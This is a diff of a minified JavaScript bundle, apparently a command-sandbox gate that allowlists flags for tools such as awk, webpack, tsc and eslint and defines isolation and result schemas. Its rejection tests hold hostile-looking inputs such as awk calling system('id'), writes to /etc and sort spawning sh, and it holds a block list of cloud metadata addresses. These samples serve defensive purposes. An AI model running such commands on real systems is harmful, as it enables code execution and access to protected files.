 u --files0-from=x"]},uname:{flags:{text:"a m n r s v"},operands:"",match:["uname -a"],not_match:["uname x"]},whoami:{operands:"",
 match:["whoami"],not_match:["whoami x","whoami --force"]}}},Fh={flags:{count:"n= c=",text:"#"},operands:"input...",curated:{
-flags:{count:"n= c="}}},sA={workspace:{awk:{flags:{text:"F= field-separator= v= assign="},operands:"awk path*",match:["a\
+flags:{count:"n= c="}}},oA={workspace:{awk:{flags:{text:"F= field-separator= v= assign="},operands:"awk path*",match:["a\
 wk '{print $1}' notes.md","awk -F / '{print $2}' notes.md"],not_match:[`awk 'BEGIN{system("id")}'`,"awk -f x y",`awk '{p\
 rint > "/etc/x"}' y`]},cut:{flags:{text:"d= f= b= c= s delimiter= fields= bytes= characters= complement only-delimited o\
 utput-delimiter="},match:["cut -d, -f1 data.csv"],not_match:["cut --force x"]},diff:{flags:{text:"B N a b i q r s u w y \
@@ -5139,123 +5142,123 @@ ort --compress-program=sh a"]},tail:{...Fh,match:["tail -n 3 notes.md"],not_matc
 uniq:{flags:{text:"c d u i count repeated unique ignore-case",count:"f= s= w="},operands:"input",curated:{flags:{text:"c\
  d u"}},match:["uniq -c notes.md"],not_match:["uniq notes.md out.txt","uniq","uniq -"]},wc:{flags:{text:"c l w m L bytes\
  chars lines words max-line-length"},operands:"input...",curated:{flags:{text:"c l w"}},match:["wc -cl notes.md"],not_match:[
-"wc --files0-from=x","wc -l","wc -"]}}},rA=H.k5n(["off","auto","require"]),iA=H.Ikc({memory_bytes:H.Whr().positive(),memory_limited_by:H.
+"wc --files0-from=x","wc -l","wc -"]}}},aA=H.k5n(["off","auto","require"]),cA=H.Ikc({memory_bytes:H.Whr().positive(),memory_limited_by:H.
 k5n(["control_group","supervisor"]).describe("The kernel enforces the limit on the control group of a command, or a proc\
 ess of the gate checks the memory of a command at intervals."),processes:H.Whr().positive(),open_files:H.Whr().positive(),
-file_bytes:H.Whr().positive(),written_bytes:H.Whr().positive()}),oA=H.Ikc({name:H.YjP(),held:H.zMY(),required:H.zMY()}),
-aA=H.Ikc({from:H.YjP(),reason:H.YjP()}),cA=H.Ikc({level:H.k5n(Cs.l$),description:H.YjP(),requested:rA.exactOptional(),launcher:H.
-YjP().exactOptional().describe("How the gate is allowed to create namespaces."),limits:iA.exactOptional().describe("The \
-limits of each command."),probes:H.YOg(oA).exactOptional().describe("The sandbox self-test: what a program that is start\
-ed like the commands could not do."),downgrades:H.YOg(aA).exactOptional().describe("Stronger containment that this machi\
+file_bytes:H.Whr().positive(),written_bytes:H.Whr().positive()}),uA=H.Ikc({name:H.YjP(),held:H.zMY(),required:H.zMY()}),
+lA=H.Ikc({from:H.YjP(),reason:H.YjP()}),dA=H.Ikc({level:H.k5n(Cs.l$),description:H.YjP(),requested:aA.exactOptional(),launcher:H.
+YjP().exactOptional().describe("How the gate is allowed to create namespaces."),limits:cA.exactOptional().describe("The \
+limits of each command."),probes:H.YOg(uA).exactOptional().describe("The sandbox self-test: what a program that is start\
+ed like the commands could not do."),downgrades:H.YOg(lA).exactOptional().describe("Stronger containment that this machi\
 ne does not support, and why."),untrusted:H.euz(!0).exactOptional().describe("The isolation and all outcomes were report\
-ed by a runner that the change controls.")});var uA=at(759);function Ph(n){return uA.G1(H.You,n)}function sF(n){return core.
-_isoDate(ZodISODate,n)}function rF(n){return core._isoTime(ZodISOTime,n)}function iF(n){return core._isoDuration(ZodISODuration,
-n)}const Lh=H.Ikc({head:H.YjP(),tail:H.YjP(),bytes:H.Whr().nonnegative(),truncated:H.zMY()}),lA=H.Ikc({created:H.YOg(H.YjP()),
+ed by a runner that the change controls.")});var BA=at(759);function Ph(n){return BA.G1(H.You,n)}function aF(n){return core.
+_isoDate(ZodISODate,n)}function cF(n){return core._isoTime(ZodISOTime,n)}function uF(n){return core._isoDuration(ZodISODuration,
+n)}const Lh=H.Ikc({head:H.YjP(),tail:H.YjP(),bytes:H.Whr().nonnegative(),truncated:H.zMY()}),fA=H.Ikc({created:H.YOg(H.YjP()),
 changed:H.YOg(H.YjP()),deleted:H.YOg(H.YjP()),totals:H.Ikc({created:H.Whr().nonnegative(),changed:H.Whr().nonnegative(),
 deleted:H.Whr().nonnegative()}).exactOptional().describe("The number of paths of each kind, if not all are listed."),complete:H.
-euz(!1).exactOptional().describe("The lists are incomplete; absent if they contain everything.")}),dA=H.Ikc({peak_memory_bytes:H.
-Whr().nonnegative().exactOptional(),cpu_ms:H.Whr().nonnegative().exactOptional()}),BA=H.k5n(["passed","failed","timed_ou\
-t","blocked","skipped","crashed","not_runnable","error"]),fA=H.k5n(["memory_bytes","processes","written_bytes"]),hA=H.Ikc(
-{status:BA,exit_code:H.Whr().nullable(),signal:H.YjP().nullable(),started_at:Ph(),duration_ms:H.Whr().nonnegative(),reason:H.
-YjP().exactOptional(),stdout:Lh,stderr:Lh,side_effects:lA.exactOptional().describe("What the command wrote to its privat\
+euz(!1).exactOptional().describe("The lists are incomplete; absent if they contain everything.")}),hA=H.Ikc({peak_memory_bytes:H.
+Whr().nonnegative().exactOptional(),cpu_ms:H.Whr().nonnegative().exactOptional()}),pA=H.k5n(["passed","failed","timed_ou\
+t","blocked","skipped","crashed","not_runnable","error"]),mA=H.k5n(["memory_bytes","processes","written_bytes"]),gA=H.Ikc(
+{status:pA,exit_code:H.Whr().nullable(),signal:H.YjP().nullable(),started_at:Ph(),duration_ms:H.Whr().nonnegative(),reason:H.
+YjP().exactOptional(),stdout:Lh,stderr:Lh,side_effects:fA.exactOptional().describe("What the command wrote to its privat\
 e copy of the checkout, which is discarded."),checkout_modified:H.YOg(H.YjP()).exactOptional().describe("Files of the ch\
 eckout that differ from the audited ones after the command."),checkout_changed:H.YOg(H.YjP()).exactOptional().describe("\
 Files of the checkout that something other than the command changed meanwhile."),left_out:H.YOg(H.YjP()).exactOptional().
 describe("Files of the checkout that the failed command mentions and did not see, because they are not in the commit."),
 root:H.YjP().exactOptional().describe("The root of the checkout as the command saw it; only if it did not pass and its o\
-utput names it."),limits_hit:H.YOg(fA).exactOptional().describe("Limits that the command reached; absent if none is know\
-n."),resources:dA.exactOptional().describe("Usage of the command and all of its descendants, if the machine reports it."),
-reused:H.euz(!0).exactOptional().describe("The result of the same Plan in another gene; it ran once.")}),pA=H.k5n(["pass",
-"warn","fail","error","needs_approval"]),oF=H.k5n(["done","agent","human","undecided"]),aF=H.k5n(["allow","warn","block"]),
-vc=H.k5n(["safe","write","dangerous"]),cF=H.k5n(Cs.v3),uF=H.Ikc({user:H.YjP(),at:Ph(),pull_request:H.Whr().positive().exactOptional().
-describe("The pull request of the review; several can be in one merge group.")}),lF=H.k5n(["pull_request","merge_group",
-"push","workflow_dispatch","range","worktree","index"]),mA=H.k5n(["darwin","linux","win32"]),gA=256,jh=H.Whr().min(1).max(
-gA),CA=H.Ikc({index:jh,of:jh}),dF=CA.extend({genes:H.Whr().nonnegative().describe("Number of genes in the shard."),verdict:pA.
-describe("The verdict about these genes alone.")}),BF=H.Ikc({contained:H.zMY().describe("False if this machine has no na\
-mespaces: the lines could reach all that the gate can."),isolation:cA,lines:H.YOg(H.Ikc({command:H.YjP(),outcome:hA})),written:H.
-YOg(H.YjP()).describe("Files and directories that are new in the checkout, sorted; a limited number.")}),kc=sn(import.meta.
-url)("node:net");function Dc(n){return String.raw`(?:[^${n}\\[\n]|\\[^\n]|\[\^?[\w-]+\])*`}const yA=(()=>{const n=String.
-raw`(?:\d+|\$|/${Dc("/")}/)`,e=s=>String.raw`s[${s}]${Dc(s)}[${s}](?:[^${s}\\\n]|\\[^\n])*[${s}][gpiI\d]*`,t=`(?:${n}(?:\
-,${n})?!? ?)?(?:[pdq=]|${["/","|",",","#"].map(e).join("|")})`;return new RegExp(`^${t}(?: ?; ?${t})*$`)})(),wA=(()=>{const n=String.
-raw`(?:\$?(?:\d+|NF|NR)|"[^"\\\n]*")`,e=`!? ?(?:/${Dc("/")}/|${n}(?: ?(?:[<>=!]=|[<>]) ?${n})?)`,t=`${e}(?: (?:&&|[|][|]\
-) ${e})*`,s=`[{] ?print(?: ${n}(?:[, ]+${n})*)? ?[}]`;return new RegExp(`^ ?(?:${t}|(?:${t} ?)?${s}) ?$`)})(),co={text:()=>{},
-choice:()=>{},path:xc,input:n=>n==="-"?"is standard input":xc(n),argument:()=>{},script:n=>n.startsWith("-")?"is a flag":
-zh(n),archive:Oc,destination:Oc,source:Oc,page:uo(/^(?:\[|\w[\w.+:@-]*)$/,"is not the name of a manual page"),host:n=>Zh(
-n)?void 0:"is not a public address or host name",domain:n=>Jh(n)?void 0:"is not a domain name",url:n=>kA(n)?void 0:"is n\
-ot a plain http or https URL",count:uo(/^[+-]?\d{1,9}[kKmMgG]?$/,"is not a number"),package:bA,pattern:()=>{},awk:uo(wA,
-"is not a program that only selects and prints"),sed:uo(yA,"is not a script that only selects and replaces")},Mh=new Set(
-["path","input","argument","script","archive","destination","source"]),Gh=/[;&|<>`\r\n\0]|\$\(/;function uo(n,e){return t=>n.
+utput names it."),limits_hit:H.YOg(mA).exactOptional().describe("Limits that the command reached; absent if none is know\
+n."),resources:hA.exactOptional().describe("Usage of the command and all of its descendants, if the machine reports it."),
+reused:H.euz(!0).exactOptional().describe("The result of the same Plan in another gene; it ran once.")}),CA=H.k5n(["pass",
+"warn","fail","error","needs_approval"]),lF=H.k5n(["done","agent","human","undecided"]),dF=H.k5n(["allow","warn","block"]),
+kc=H.k5n(["safe","write","dangerous"]),BF=H.k5n(Cs.v3),fF=H.Ikc({user:H.YjP(),at:Ph(),pull_request:H.Whr().positive().exactOptional().
+describe("The pull request of the review; several can be in one merge group.")}),hF=H.k5n(["pull_request","merge_group",
+"push","workflow_dispatch","range","worktree","index"]),yA=H.k5n(["darwin","linux","win32"]),wA=256,jh=H.Whr().min(1).max(
+wA),bA=H.Ikc({index:jh,of:jh}),pF=bA.extend({genes:H.Whr().nonnegative().describe("Number of genes in the shard."),verdict:CA.
+describe("The verdict about these genes alone.")}),mF=H.Ikc({contained:H.zMY().describe("False if this machine has no na\
+mespaces: the lines could reach all that the gate can."),isolation:dA,lines:H.YOg(H.Ikc({command:H.YjP(),outcome:gA})),written:H.
+YOg(H.YjP()).describe("Files and directories that are new in the checkout, sorted; a limited number.")}),Dc=sn(import.meta.
+url)("node:net");function xc(n){return String.raw`(?:[^${n}\\[\n]|\\[^\n]|\[\^?[\w-]+\])*`}const _A=(()=>{const n=String.
+raw`(?:\d+|\$|/${xc("/")}/)`,e=s=>String.raw`s[${s}]${xc(s)}[${s}](?:[^${s}\\\n]|\\[^\n])*[${s}][gpiI\d]*`,t=`(?:${n}(?:\
+,${n})?!? ?)?(?:[pdq=]|${["/","|",",","#"].map(e).join("|")})`;return new RegExp(`^${t}(?: ?; ?${t})*$`)})(),EA=(()=>{const n=String.
+raw`(?:\$?(?:\d+|NF|NR)|"[^"\\\n]*")`,e=`!? ?(?:/${xc("/")}/|${n}(?: ?(?:[<>=!]=|[<>]) ?${n})?)`,t=`${e}(?: (?:&&|[|][|]\
+) ${e})*`,s=`[{] ?print(?: ${n}(?:[, ]+${n})*)? ?[}]`;return new RegExp(`^ ?(?:${t}|(?:${t} ?)?${s}) ?$`)})(),lo={text:()=>{},
+choice:()=>{},path:Oc,input:n=>n==="-"?"is standard input":Oc(n),argument:()=>{},script:n=>n.startsWith("-")?"is a flag":
+zh(n),archive:Ac,destination:Ac,source:Ac,page:Bo(/^(?:\[|\w[\w.+:@-]*)$/,"is not the name of a manual page"),host:n=>Zh(
+n)?void 0:"is not a public address or host name",domain:n=>Jh(n)?void 0:"is not a domain name",url:n=>OA(n)?void 0:"is n\
+ot a plain http or https URL",count:Bo(/^[+-]?\d{1,9}[kKmMgG]?$/,"is not a number"),package:vA,pattern:()=>{},awk:Bo(EA,
+"is not a program that only selects and prints"),sed:Bo(_A,"is not a script that only selects and replaces")},Mh=new Set(
+["path","input","argument","script","archive","destination","source"]),Gh=/[;&|<>`\r\n\0]|\$\(/;function Bo(n,e){return t=>n.
 test(t)?void 0:e}function Hh(n){return/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.test(n)}function zh(n){return n===""?"is empty":void 0}
-function xc(n){return Hh(n)?"is a URL":zh(n)}function Oc(n){return n.startsWith("-")?"begins with a dash":!Hh(n)&&/^[^/]*:/.
+function Oc(n){return Hh(n)?"is a URL":zh(n)}function Ac(n){return n.startsWith("-")?"begins with a dash":!Hh(n)&&/^[^/]*:/.
 test(n)&&!/^[A-Za-z]:[\\/]/.test(n)?"names another host":Gh.test(n)?"contains a shell operator":/[*?[\]{}]/.test(n)?"con\
-tains a wildcard":/^~|\$/.test(n)?"is expanded by a shell":xc(n)}function bA(n){return!/^[A-Za-z0-9][A-Za-z0-9._+-]*(?:\[[\w,.-]+\])?(?:(?:[=~!<>]=|[<>=])[\w.*+!:~-]+)?$/.
-test(n)||n.endsWith("-")?"is not a package name":/\.(?:whl|zip|deb|t?gz|tar|bz2|xz|egg)$/i.test(n)?"is a file":void 0}const _A={
+tains a wildcard":/^~|\$/.test(n)?"is expanded by a shell":Oc(n)}function vA(n){return!/^[A-Za-z0-9][A-Za-z0-9._+-]*(?:\[[\w,.-]+\])?(?:(?:[=~!<>]=|[<>=])[\w.*+!:~-]+)?$/.
+test(n)||n.endsWith("-")?"is not a package name":/\.(?:whl|zip|deb|t?gz|tar|bz2|xz|egg)$/i.test(n)?"is a file":void 0}const kA={
 ipv4:Uh("ipv4","0.0.0.0/8 127.0.0.0/8 169.254.0.0/16 224.0.0.0/3 100.100.100.200/32 168.63.129.16/32 192.0.0.192/32"),ipv6:Uh(
-"ipv6","::/80 fe80::/10 fec0::/10 ff00::/8 fd00:ec2::254/128 64:ff9b::/96 64:ff9b:1::/48 2002::/16")};function Uh(n,e){const t=new kc.
-BlockList;for(const s of e.split(" ")){const[r="",i]=s.split("/");t.addSubnet(r,Number(i),n)}return t}const EA=/(?:^|\.)(?:localhost|local|internal|localdomain)$|^(?:ip6-)?loopback$|^metadata$/i,
-vA=/^(?!-)[a-z0-9_-]{1,63}(?<!-)$/i;function Jh(n){const e=n.replace(/\.$/,"");if(e===""||e.length>253||EA.test(e))return!1;
-const t=e.split(".");return t.every(s=>vA.test(s))&&!/^(?:\d+|0x[\da-f]*)$/i.test(t.at(-1)??"")}function Zh(n){if((0,kc.
-isIP)(n)===0)return Jh(n);const e=(0,kc.isIPv4)(n)?"ipv4":"ipv6";return!n.includes("%")&&!_A[e].check(n,e)}function kA(n){
+"ipv6","::/80 fe80::/10 fec0::/10 ff00::/8 fd00:ec2::254/128 64:ff9b::/96 64:ff9b:1::/48 2002::/16")};function Uh(n,e){const t=new Dc.
+BlockList;for(const s of e.split(" ")){const[r="",i]=s.split("/");t.addSubnet(r,Number(i),n)}return t}const DA=/(?:^|\.)(?:localhost|local|internal|localdomain)$|^(?:ip6-)?loopback$|^metadata$/i,
+xA=/^(?!-)[a-z0-9_-]{1,63}(?<!-)$/i;function Jh(n){const e=n.replace(/\.$/,"");if(e===""||e.length>253||DA.test(e))return!1;
+const t=e.split(".");return t.every(s=>xA.test(s))&&!/^(?:\d+|0x[\da-f]*)$/i.test(t.at(-1)??"")}function Zh(n){if((0,Dc.
+isIP)(n)===0)return Jh(n);const e=(0,Dc.isIPv4)(n)?"ipv4":"ipv6";return!n.includes("%")&&!kA[e].check(n,e)}function OA(n){
 const t=/^https?:\/\/(\[[0-9a-f:.]+\]|[\w.-]+)(?::\d{1,5})?(?:[/?#][\w\-.~:/?#@!$&'()*+,;=%]*)?$/i.exec(n)?.[1];return t!==
 void 0&&URL.canParse(n)&&Zh(t.replace(/^\[|\]$/g,""))}function Wh(n){return qh(n,e=>{const t=/^\{(.*)\}$/.exec(e)?.[1];return t===
 void 0&&!/[{}]/.test(e)?e:Yh(t??"")})}function Kh(n){return qh(n,Yh)}function qh(n,e){const t=n.split(" ").filter(i=>i!==
-""),s=t.flatMap(i=>e(i)??[]);return s.every((i,o)=>DA(i)||o===t.length-1)&&s.length===t.length?s:void 0}function Yh(n){const[
-,e="",t,s,r]=/^([a-z]+)(?::(\d+)-(\d+))?(\?|\*|\.\.\.)?$/.exec(n)??[];if(Object.hasOwn(co,e))return{kind:e,optional:r===
-"?"||r==="*",many:r==="*"||r==="...",...t!==void 0&&{range:[Number(t),Number(s)]}}}function DA(n){return typeof n!="obje\
+""),s=t.flatMap(i=>e(i)??[]);return s.every((i,o)=>AA(i)||o===t.length-1)&&s.length===t.length?s:void 0}function Yh(n){const[
+,e="",t,s,r]=/^([a-z]+)(?::(\d+)-(\d+))?(\?|\*|\.\.\.)?$/.exec(n)??[];if(Object.hasOwn(lo,e))return{kind:e,optional:r===
+"?"||r==="*",many:r==="*"||r==="...",...t!==void 0&&{range:[Number(t),Number(s)]}}}function AA(n){return typeof n!="obje\
 ct"||!(n.optional||n.many)}function Vh(n){const e=n.at(-1);return typeof e!="object"?{min:n.length,max:n.length}:{min:n.
-length-(e.optional?1:0),max:e.many?Number.POSITIVE_INFINITY:n.length}}function xA(n,e,t){const{min:s,max:r}=Vh(n);if(e.length<
+length-(e.optional?1:0),max:e.many?Number.POSITIVE_INFINITY:n.length}}function SA(n,e,t){const{min:s,max:r}=Vh(n);if(e.length<
 s||e.length>r)return;const i=[];for(const[o,c]of e.entries()){const l=n[Math.min(o,n.length-1)];if(typeof l=="object"){const{
-kind:B}=l,d=i.some(g=>g.kind==="script"),h=OA(l,c.text,d)??t(B,c.text);i.push({word:c,kind:B,...h&&{wrong:h}})}else if(l!==
-c.text)return}return i}function OA({kind:n,range:e},t,s){if(e!==void 0){const[i,o]=e;return/^[1-9]\d{0,8}$/.test(t)&&Number(
+kind:B}=l,d=i.some(g=>g.kind==="script"),h=TA(l,c.text,d)??t(B,c.text);i.push({word:c,kind:B,...h&&{wrong:h}})}else if(l!==
+c.text)return}return i}function TA({kind:n,range:e},t,s){if(e!==void 0){const[i,o]=e;return/^[1-9]\d{0,8}$/.test(t)&&Number(
 t)>=i&&Number(t)<=o?void 0:`is not a number from ${i} to ${o}`}return n!=="count"&&!s&&/^-./.test(t)?"starts with a dash":
-void 0}const AA=["network_touching","archive_extraction_overwrite","archive_creation_overwrite","env_secrets","recursive\
-_deletion","broad_permission_target","writes_files"],Qh=H.k5n(AA),lo=H.YjP().regex(/^[A-Za-z0-9][\w.+-]*$/,"expected the\
- name of a program"),Ac=H.YjP().regex(/^(?![\\/]|[A-Za-z]:)(?!(?:.*[\\/])?\.\.(?:[\\/]|$))[^\\]+$/,"expected a relative \
-path without .."),Sc=H.YjP().regex(/^-\S*$/,"expected a flag, such as -n or --name"),Tc=H.YOg(Sc).readonly(),SA=H.rej({flag:H.
+void 0}const IA=["network_touching","archive_extraction_overwrite","archive_creation_overwrite","env_secrets","recursive\
+_deletion","broad_permission_target","writes_files"],Qh=H.k5n(IA),fo=H.YjP().regex(/^[A-Za-z0-9][\w.+-]*$/,"expected the\
+ name of a program"),Sc=H.YjP().regex(/^(?![\\/]|[A-Za-z]:)(?!(?:.*[\\/])?\.\.(?:[\\/]|$))[^\\]+$/,"expected a relative \
+path without .."),Tc=H.YjP().regex(/^-\S*$/,"expected a flag, such as -n or --name"),Ic=H.YOg(Tc).readonly(),$A=H.rej({flag:H.
 YjP().regex(/^--?[A-Za-z0-9][\w.:-]*$/,"expected a flag such as --name").describe("As it is written, with its dashes."),
-value:H.k5n(["none","path","text"]).describe("Its value: none, a path of the repository, or any other text.")}),fF=H.g1P(
-H.YjP().min(1),H.YOg(SA).min(1)),Xh={match:H.YOg(H.YjP()).min(1).describe("Commands that the family must accept."),not_match:H.
-YOg(H.YjP()).min(1).describe("Commands that the family must reject.")},Ic=H.k5n(Ga),TA=Object.keys(co),$c="names without\
+value:H.k5n(["none","path","text"]).describe("Its value: none, a path of the repository, or any other text.")}),gF=H.g1P(
+H.YjP().min(1),H.YOg($A).min(1)),Xh={match:H.YOg(H.YjP()).min(1).describe("Commands that the family must accept."),not_match:H.
+YOg(H.YjP()).min(1).describe("Commands that the family must reject.")},$c=H.k5n(za),RA=Object.keys(lo),Rc="names without\
  dashes, separated by blanks",ep="A comma separates spellings, a mark behind a name is its value: `=` required, `?` opti\
-onal, `?=` attached, `*` several, `+` all following words, `=a|b` one of these; `~` stands for any end.",Rc={flags:H.jgl(
-H.k5n(TA),H.YjP()).optional().describe(`The accepted flags by the kind of their values: ${$c}. ${ep}`),operands:H.YjP().
+onal, `?=` attached, `*` several, `+` all following words, `=a|b` one of these; `~` stands for any end.",Nc={flags:H.jgl(
+H.k5n(RA),H.YjP()).optional().describe(`The accepted flags by the kind of their values: ${Rc}. ${ep}`),operands:H.YjP().
 refine(n=>Kh(n)!==void 0,{error:"expected kinds such as path; a kind with ? * or ... only at the end"}).optional().describe(
-"Kinds in order; the last may end with `?` (optional), `...` (one or more) or `*` (any number). Default: `path*`."),risk:vc.
+"Kinds in order; the last may end with `?` (optional), `...` (one or more) or `*` (any number). Default: `path*`."),risk:kc.
 optional().describe("Default: safe."),warnings:H.YOg(Qh).readonly().optional(),network_touching:H.zMY().optional()},tp={
-...Rc,leading_flags:Tc.optional().describe("Flags before the operands; all others are behind them."),first_operand_by:Tc.
-optional().describe("With one of these flags, there is no first operand."),last_operand_by:Tc.optional().describe("With \
+...Nc,leading_flags:Ic.optional().describe("Flags before the operands; all others are behind them."),first_operand_by:Ic.
+optional().describe("With one of these flags, there is no first operand."),last_operand_by:Ic.optional().describe("With \
 one of these flags, the last operand may be absent."),default_operand:H.YjP().optional().describe("The path that the pro\
 gram uses by default."),flag_warnings:H.g1P(H.YjP(),Qh).optional(),dangerous_targets:H.YOg(H.YjP()).readonly().optional(),
-forbidden_prefixes:H.YOg(H.YjP()).readonly().optional(),forms:H.g1P(H.YjP(),H.rej(Rc)).refine(n=>Object.keys(n).every(e=>Wh(
+forbidden_prefixes:H.YOg(H.YjP()).readonly().optional(),forms:H.g1P(H.YjP(),H.rej(Nc)).refine(n=>Object.keys(n).every(e=>Wh(
 e)!==void 0),{error:"expected words and placeholders such as {path}; {source...} only at the end"}).optional().describe(
 "The only accepted words after the program: literal, or {kind}, {count:1-10}, and {kind...} at the end; with what differ\
-s from the program."),subcommands:H.g1P(H.YjP(),H.rej(Rc)).optional().describe("The only accepted first words, with what\
- differs from the program.")},IA=H.rej({...tp,only:H.k5n(["curated","workspace"]).optional().describe("The only profile \
+s from the program."),subcommands:H.g1P(H.YjP(),H.rej(Nc)).optional().describe("The only accepted first words, with what\
+ differs from the program.")},NA=H.rej({...tp,only:H.k5n(["curated","workspace"]).optional().describe("The only profile \
 that accepts the program. Default: both."),curated:H.rej(tp).optional().describe("What replaces the keys above in the `c\
 urated` profile."),maturity:H.k5n(["structured","direct_only","experimental_only","blocked"]).optional(),platforms:H.YOg(
-mA).optional(),...Xh}),$A=["file","package","program","node","command","script","own-script","tool","script-or-tool","sc\
-ript-tool-or-file","command-texts","npm-scripts"],Nc={flags:H.jgl(H.k5n([...$v,...Ga]),H.YjP()).optional().describe(`Fla\
-gs by the kind of their values, or by why they are refused: ${$c}. ${ep}`),operands:H.k5n(Rv).optional().describe("The k\
-ind of all operands. Default: path."),refused:H.jgl(Ic,H.YjP()).optional().describe(`First operands by why they are refu\
-sed: ${$c}; \`~\` stands for any end.`),starts:H.k5n($A).optional().describe("What the first operand is, if the program \
-runs it."),unless:H.jgl(Ic,H.YjP()).optional().describe("Refused for a reason, unless one of these flags is set."),alone:Ic.
+yA).optional(),...Xh}),FA=["file","package","program","node","command","script","own-script","tool","script-or-tool","sc\
+ript-tool-or-file","command-texts","npm-scripts"],Fc={flags:H.jgl(H.k5n([...Fv,...za]),H.YjP()).optional().describe(`Fla\
+gs by the kind of their values, or by why they are refused: ${Rc}. ${ep}`),operands:H.k5n(Pv).optional().describe("The k\
+ind of all operands. Default: path."),refused:H.jgl($c,H.YjP()).optional().describe(`First operands by why they are refu\
+sed: ${Rc}; \`~\` stands for any end.`),starts:H.k5n(FA).optional().describe("What the first operand is, if the program \
+runs it."),unless:H.jgl($c,H.YjP()).optional().describe("Refused for a reason, unless one of these flags is set."),alone:$c.
 optional().describe("What it does without an operand or subcommand."),any_package:H.zMY().optional(),skips:H.Whr().nonnegative().
-optional(),variables:H.YOg(H.YjP()).optional()},RA=H.rej({...Nc,behind:H.rej({flags:Nc.flags}).optional().describe("The \
-flags that may stand behind `--`; default: operands.")}),NA=H.rej({...Nc,programs:H.YOg(lo).optional().describe("The wor\
-ds that start the program; default: the name of the family."),risk:vc.default("safe"),completes:H.zMY().default(!1).describe(
+optional(),variables:H.YOg(H.YjP()).optional()},PA=H.rej({...Fc,behind:H.rej({flags:Fc.flags}).optional().describe("The \
+flags that may stand behind `--`; default: operands.")}),LA=H.rej({...Fc,programs:H.YOg(fo).optional().describe("The wor\
+ds that start the program; default: the name of the family."),risk:kc.default("safe"),completes:H.zMY().default(!1).describe(
 "Flags may be written by their beginning, as for getopt and argparse."),subcommands:H.g1P(H.YjP().regex(/^\S+(?: \S+)*$/),
-RA).default({}).describe("By name; a comma separates spellings, a blank the words of a nested subcommand."),extensions:H.
+PA).default({}).describe("By name; a comma separates spellings, a blank the words of a nested subcommand."),extensions:H.
 YjP().optional().describe("Extensions of the files that it may run, besides files without one."),dependency_tools:H.YOg(
-lo).default([]),started_programs:H.YOg(lo).default([]),directory_flags:H.YOg(Sc).default([]),selecting_flags:H.YOg(Sc).default(
-[]),settings:H.YOg(Ac).default([]).describe("Files and folders, from the working directory up, that can give a command a\
-nother meaning: a change must not edit them."),build_files:H.YOg(Ac).default([]).describe("Files of the commit that deci\
-de what the program does; `*` matches in a name."),dependencies:H.YOg(H.rej({path:Ac,at:H.k5n(["root","anywhere","home"]),
+fo).default([]),started_programs:H.YOg(fo).default([]),directory_flags:H.YOg(Tc).default([]),selecting_flags:H.YOg(Tc).default(
+[]),settings:H.YOg(Sc).default([]).describe("Files and folders, from the working directory up, that can give a command a\
+nother meaning: a change must not edit them."),build_files:H.YOg(Sc).default([]).describe("Files of the commit that deci\
+de what the program does; `*` matches in a name."),dependencies:H.YOg(H.rej({path:Sc,at:H.k5n(["root","anywhere","home"]),
 variable:H.YjP().regex(/^[A-Z][A-Z0-9_]*$/).optional()})).default([]).describe("Where its dependencies are, outside of t\
 he commit."),environment:H.g1P(H.YjP().regex(/^[A-Za-z_]\w*$/),H.YjP()).default({}).describe("Variables that are set for\
- the program."),...Xh}),FA=H.rej({name:lo,category:H.YjP().min(1).optional().describe("The pack, for `disabled_packs`; d\
-efault: the pack of the built-in family of the same name, or `other`."),notes:H.YjP().optional(),evolver:NA.optional().describe(
-"For the default profile, which accepts the program if `programs` names it."),sandbox:IA.optional().describe("For the `c\
-urated` and `workspace` profiles. Default: neither accepts the program.")}),PA=[{programs:["rollup"],flags:{text:`
+ the program."),...Xh}),jA=H.rej({name:fo,category:H.YjP().min(1).optional().describe("The pack, for `disabled_packs`; d\
+efault: the pack of the built-in family of the same name, or `other`."),notes:H.YjP().optional(),evolver:LA.optional().describe(
+"For the default profile, which accepts the program if `programs` names it."),sandbox:NA.optional().describe("For the `c\
+urated` and `workspace` profiles. Default: neither accepts the program.")}),MA=[{programs:["rollup"],flags:{text:`
         amd.~= assetFileNames= chunkFileNames= compact dynamicImportInCjs entryFileNames= esModule
         exports= extend external,e= externalImportAttributes externalLiveBindings failAfterWarnings
         filterLogs= forceExit format,f= freeze generatedCode= generatedCode.~ globals,g= input,i=
@@ -5302,7 +5305,7 @@ er-ends":"watch?"},match:["npx tsup src/x.ts --format cjs,esm --dts"]},{programs
         entry= entry-~= module-rules-loader= module-rules-use= resolve-loader-~= module-rules-parser=
       `,preload:"require,r=",output:"output-path,o= output-filename= json,j?","never-ends":"watch,w watch-~="},refused:{
 "never-ends":"serve server s watch w","only-prints":"help h info i version v configtest t","uses-network":"init create n\
-ew c n plugin loader p l migrate"},match:["npx webpack -c webpack.config.js --mode production"]}],LA=[{programs:["tsc","\
+ew c n plugin loader p l migrate"},match:["npx webpack -c webpack.config.js --mode production"]}],GA=[{programs:["tsc","\
 tsgo","vue-tsc"],flags:{text:`
         allowArbitraryExtensions allowImportingTsExtensions allowJs allowSyntheticDefaultImports
         allowUmdGlobalAccess allowUnreachableCode allowUnusedLabels alwaysStrict
@@ -5362,7 +5365,7 @@ iti","sucrase-node","swc-node"],starts:"node",flags:{"outside-code":"eval,e= pri
 p-initial-build
       `,path:"root= source-root=",config:"config-file=",code:"plugins= presets=",output:"out-file,o= out-dir,d=","tool-w\
 rites":"copy-files,D delete-dir-on-start","reads-stdin":"filename,f=","never-ends":"watch,w"},match:["npx babel src --no\
--comments"],not_match:["npx babel src -w"]}],jA=[{programs:["eslint"],flags:{text:`
+-comments"],not_match:["npx babel src -w"]}],HA=[{programs:["eslint"],flags:{text:`
         cache cache-strategy= color concurrency= config-lookup debug env= eslintrc
         error-on-unmatched-pattern exit-on-fatal-error ext* fix-dry-run fix-type= flag* global*
         ignore ignore-pattern* inline-config max-warnings= pass-on-unpruned-suppressions
@@ -5438,7 +5441,7 @@ tes-files":"init"},match:['npx cspell --no-progress "src/**"']},{programs:["ajv"
         unicode-regexp messages inline-refs= code-~= allow-union-types allow-matching-properties
         comment loop-required= loop-enum= own-properties valid invalid
       `,tests:"d* m* r* s=",preload:"c=",output:"o?"},refused:{"only-prints":"help"},match:['npx ajv validate -s schema.\
-json -d "data/*.json"']}],MA=[{programs:["c8"],starts:"command",flags:{text:`
+json -d "data/*.json"']}],zA=[{programs:["c8"],starts:"command",flags:{text:`
         all include,n= exclude,x= extension,e= exclude-after-remap,a skip-full
         check-coverage branches= functions= lines= statements= per-file 100 exclude-node-modules
         clean wrapper-length= omit-relative allowExternal merge-async experimental-monocart
